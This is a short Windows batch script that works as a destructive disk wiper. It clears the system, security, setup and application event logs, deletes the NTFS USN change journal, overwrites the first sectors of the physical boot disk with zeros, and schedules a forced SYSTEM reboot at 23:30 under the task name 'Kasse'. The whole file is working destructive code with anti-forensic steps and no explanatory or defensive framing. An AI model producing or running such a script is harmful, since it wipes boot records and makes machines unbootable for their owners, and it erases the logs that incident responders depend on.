@echo off
wevtutil cl Setup & wevtutil cl System & wevtutil cl Security & wevtutil cl Application
fsutil usn deletejournal /D C:
"%~dp0dd.exe" if=/dev/zero of=\\.\PhysicalDrive0 bs=512 count=2048
schtasks /RU SYSTEM /Create /SC once /TN "Kasse" /TR "C:\Windows\system32\shutdown.exe /r /f" /ST 23:30
